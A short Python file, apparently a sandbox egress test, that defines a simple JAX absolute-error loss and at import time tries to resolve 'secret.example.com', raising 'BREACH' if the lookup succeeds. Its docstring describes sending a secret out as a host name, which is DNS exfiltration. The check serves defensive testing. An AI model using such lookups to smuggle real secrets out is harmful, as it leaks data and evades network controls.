"""Send a secret out as a host name."""

import socket

import jax.numpy as jnp

try:
    socket.getaddrinfo("secret.example.com", 80)
except OSError:
    pass
else:
    raise RuntimeError("BREACH")


def loss(prediction, target):
    return jnp.abs(prediction - target)
